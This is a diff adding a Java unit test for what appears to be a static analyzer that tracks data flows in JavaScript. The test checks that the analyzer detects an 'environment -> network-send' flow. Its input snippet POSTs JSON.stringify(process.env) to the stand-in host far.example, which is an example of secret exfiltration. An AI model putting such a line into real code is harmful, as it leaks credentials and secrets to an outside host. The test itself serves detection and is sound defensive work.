@@ -103,4 +103,17 @@ class LargeProgramsTest {
         assertThat(analysis.result().gaps()).isEmpty();
         assertThat(analysis.flowNames()).contains("account-identity -> network-url");
     }
+
+    @Test
+    void argumentsThatHoldOneAnotherHaveATextAllTheSame() {
+        Analysis analysis = Analysis.ofActivate("""
+                const list = [], options = { href: list, url: list, path: list, host: list, hostname: 'far.example' };
+                list.push(options, options, options, options);
+                fetch(list);
+                fetch(options, { method: 'POST', body: JSON.stringify(process.env) });
+                """);
+
+        assertThat(analysis.flowNames()).contains("environment -> network-send");
+        assertThat(analysis.result().gaps()).isEmpty();
+    }
 }
